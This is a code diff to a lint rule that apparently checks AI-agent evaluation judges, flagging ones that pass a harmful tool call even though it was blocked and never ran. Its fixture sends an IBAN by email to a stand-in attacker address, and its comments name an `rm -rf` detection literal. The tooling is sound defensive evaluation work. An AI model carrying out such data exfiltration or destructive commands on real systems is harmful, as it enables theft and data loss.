@@ -34,7 +34,7 @@ export default defineRule({
       reference: "[call('send_email', { to: 'mark@evil.test', subject: 'Invoice', body: 'IBAN: DE89370400440532013000' })]",
     },
     witness:
-      "The reference run with the last call of a tool the judge selects blocked at the chokepoint: in the trace with status `blocked` and the gate's decision, never run, so its effect is missing. A judge that selects calls by no tool (the calls an assistant turn proposed, `trace[i]` for each index in its `toolCalls`) has the last reference call blocked whose argument its check accepts (the `code` that contains `rm -rf`), or else the last reference call of a tool its check looks for by name without a selector (the name searched in a text built from the calls, or one of a list of names looked up among those called). The action was not done: a right judge fails it (an attack judge does not fire) and this one passes it. Where the reference makes no such call, the reasoning itself: the verdict reads neither a call's status nor the chokepoint's decisions.",
+      "The reference run with the last call of a tool the judge selects blocked at the chokepoint: in the trace with status `blocked` and the gate's decision, never run, so its effect is missing. A judge that selects calls by no tool (the calls an assistant turn proposed, `trace[i]` for each index in its `toolCalls`) has the last reference call blocked whose argument its check accepts (the `code` that contains `rm -rf`; any argument, for a text made from a call's whole arguments serialised), or else the last reference call of a tool its check looks for by name without a selector (the name searched in a text built from the calls, or one of a list of names looked up among those called). The action was not done: a right judge fails it (an attack judge does not fire) and this one passes it. Where the reference makes no such call, the reasoning itself: the verdict reads neither a call's status nor the chokepoint's decisions.",
   },
   defaultOptions: {},
   check({ facts, judge, task, report }) {
@@ -91,8 +91,9 @@ function witness(facts: JudgeFacts, task: TaskFacts, selectors: readonly Compare
 
 /**
  * The last reference call with an argument a check the verdict needs accepts: the argument the
- * check reads (`trace[i].args.code`) holds a text the check finds its literal in (`includes('rm -rf')`),
- * in every reading the check may have (a text or a list searched).
+ * check reads (`trace[i].args.code`; any, for a text made from the whole arguments) holds a text the
+ * check finds its literal in (`includes('rm -rf')`), in every reading the check may have (a text or a
+ * list searched).
  */
 function acceptedCall(facts: JudgeFacts, task: TaskFacts): { readonly index: number; readonly call: ReferenceCallFacts } | undefined {
   let last: { index: number; call: ReferenceCallFacts } | undefined;
@@ -100,9 +101,15 @@ function acceptedCall(facts: JudgeFacts, task: TaskFacts): { readonly index: num
     const record = facts.records.get(id);
     if (record?.type !== 'compare' || record.match === 'selector' || !matchNeeded(facts, record)) continue;
     const names = new Set([...record.actual.paths].flatMap((p) => ARGUMENT.exec(p)?.[1] ?? []));
-    // A needle not read from the context can only be one of the literals it was computed from.
-    const needles = record.expected.paths.size === 0 ? [...(literalsOf(record.expected) ?? [])].filter((v) => v !== '') : [];
-    if (names.size === 0 || needles.length === 0) continue;
+    // A text made from a call's whole arguments (`JSON.stringify(call.args)` in a description) holds each argument's text.
+    const anyArgument = names.size === 0 && [...record.actual.deps].some((p) => WHOLE_ARGUMENTS.test(p));
+    // A needle not read from the context can only be one of the literals it was computed from; in a
+    // serialised text, only one that serialising leaves as it is.
+    const needles =
+      record.expected.paths.size === 0
+        ? [...(literalsOf(record.expected) ?? [])].filter((v) => v !== '' && (!anyArgument || JSON.stringify(v) === `"${v}"`))
+        : [];
+    if ((names.size === 0 && !anyArgument) || needles.length === 0) continue;
     const normal = record.actual.caseNormal;
     const accepts = (value: Constant | undefined): boolean => {
       if (typeof value !== 'string') return false;
@@ -110,7 +117,8 @@ function acceptedCall(facts: JudgeFacts, task: TaskFacts): { readonly index: num
       return needles.some((n) => readingsOf(record.match).some((m) => textAccepted(m, text, n) === true));
     };
     for (const [index, call] of (task.reference ?? []).entries()) {
-      if ((last === undefined || index > last.index) && call.args.some((a) => names.has(a.name) && (a.list ?? [a.value]).some(accepts))) last = { index, call };
+      if ((last === undefined || index > last.index) && call.args.some((a) => (anyArgument || names.has(a.name)) && (a.list ?? [a.value]).some(accepts)))
+        last = { index, call };
     }
   }
   return last;
@@ -134,6 +142,7 @@ function namedCall(facts: JudgeFacts, task: TaskFacts): { readonly index: number
 }
 
 const ARGUMENT = /^trace(?:\[[^\]]*\])?\.args\.([\w$]+)/;
+const WHOLE_ARGUMENTS = /^trace(?:\[[^\]]*\])?\.args$/;
 
 function resultChecked(facts: JudgeFacts): boolean {
   for (const id of facts.verdict.recs.keys()) {
